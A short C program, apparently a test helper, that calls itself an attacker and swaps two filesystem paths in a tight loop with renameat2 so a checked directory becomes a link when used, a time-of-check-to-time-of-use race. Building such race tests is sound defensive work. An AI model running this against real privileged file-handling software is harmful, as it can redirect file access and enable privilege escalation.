// An attacker: exchanges two paths as fast as it can until its parent ends or kills it. So a path
// that was a directory when it was looked at is a link when it is used.

#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/prctl.h>

int main(int argc, char **argv) {
  if (argc != 3 || prctl(PR_SET_PDEATHSIG, SIGKILL) != 0) return 2;
  while (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) {}
  perror(argv[1]);
  return 1;
}
